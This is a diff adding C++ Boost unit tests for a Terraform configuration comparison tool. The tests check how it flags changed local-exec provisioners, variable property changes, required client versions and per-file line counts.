+BOOST_AUTO_TEST_CASE(a_literal_is_not_an_interpolation) {
+  const auto run = [](const std::string& command) {
+    return Files{{"main.tf", "resource \"null_resource\" \"a\" {\n  provisioner \"local-exec\" {\n    command = " +
+                                 command + "\n  }\n}\n"}};
+  };
+  const char* changed = "risky provisioner main.tf:2 the provisioner null_resource.a local-exec was changed\n";
+  check({
+      {"an interpolation", run("\"echo $${path.cwd}\""), run("\"echo ${path.cwd}\""), changed},
+      {"a dollar sign before it", run("\"$$${path.cwd}\""), run("\"${\"$\"}${path.cwd}\""), changed},
+      {"a directive", run("\"%%{if true}a%%{else}b%%{endif}\""), run("\"%{if true}a%{else}b%{endif}\""), changed},
+      {"in a branch of a directive", run("\"%{if true}$${path.cwd}%{endif}\""),
+       run("\"%{if true}${path.cwd}%{endif}\""), changed},
+      {"the same literal as a heredoc", run("\"echo $${path.cwd} 5%\\n\""), run("<<EOT\necho $${path.cwd} 5%\nEOT"),
+       ""},
+  });
+}
+
+BOOST_AUTO_TEST_CASE(other_properties_of_a_variable_are_listed) {
+  const auto result = diff({{"main.tf", "variable \"a\" {\n  default = 1\n  sensitive = true\n}\n"}},
+                           {{"main.tf", "variable \"a\" {\n  nullable = false\n}\n"}});
+  std::string text;
+  for (const messages::ChangedItem& item : result.variables) {
+    text += fmt::format("{} {}: {} -> {}\n", item.name, item.change, item.before, item.after);
+  }
+  BOOST_TEST(text ==
+             "a changed: optional -> required\n"
+             "a changed: sensitive -> plain\n"
+             "a changed: nullable -> not nullable\n");
+}
+
+BOOST_AUTO_TEST_CASE(a_new_demand_for_a_client_is_found) {
+  check({{"a required version",
+          {{"main.tf", ""}},
+          {{"main.tf", "terraform {\n  required_version = \">= 1.5\"\n}\n"}},
+          "notable client-version main.tf:2 the client must have a version >= 1.5\n"}});
+}
+
+BOOST_AUTO_TEST_CASE(lists_hold_only_changes) {
+  const std::string resource = "resource \"aws_vpc\" \"a\" {}\n";
+  const auto variables = [](const char* type, const char* other) {
+    return fmt::format("variable \"a\" {{\n  type = {}\n  default = 1\n}}\nvariable \"b\" {{\n  default = {}\n}}\n",
+                       type, other);
+  };
+  const auto result = diff({{"main.tf", variables("string", "1") + resource}, {"b.txt", "1\n2\n"}, {"gone.md", "a\n"}},
+                           {{"main.tf", variables("list(string)", "[2]") + resource +
+                                            "resource \"aws_vpc\" \"b\" {}\noutput \"o\" {\n  value = 1\n}\n"},
+                            {"b.txt", "1\n3\n4\n"},
+                            {"z.sh", "id\n"},
+                            {"z.bin", std::string("\0\n", 2)}});
+  const auto lines = [](const std::vector<messages::ChangedItem>& items) {
+    std::string text;
+    for (const messages::ChangedItem& item : items) {
+      text += fmt::format("{} {} {} -> {}\n", item.name, item.change, item.before, item.after);
+    }
+    return text;
+  };
+  BOOST_TEST(lines(result.variables) == "a changed string -> list(string)\nb changed default 1 -> default [2]\n");
+  BOOST_TEST(lines(result.outputs) == "o added  -> \n");
+  BOOST_TEST(lines(result.resources) == "aws_vpc changed 1 -> 2\n");
+  BOOST_TEST(lines(result.providers) == "");
+  std::string files;
+  for (const messages::ChangedFile& file : result.files.changed) {
+    files +=
+        fmt::format("{} {} {} +{} -{}\n", file.path, file.change, file.is_script, file.lines_added, file.lines_removed);
+  }
+  BOOST_TEST(files ==
+             "z.bin added true +0 -0\n"
+             "z.sh added true +1 -0\n"
+             "b.txt changed false +2 -1\n"
+             "gone.md removed false +0 -1\n"
+             "main.tf changed false +6 -2\n");
+  BOOST_TEST(result.files.lines_added == 9U);
+  BOOST_TEST(result.files.lines_removed == 4U);
+}
+
+BOOST_AUTO_TEST_SUITE_END()
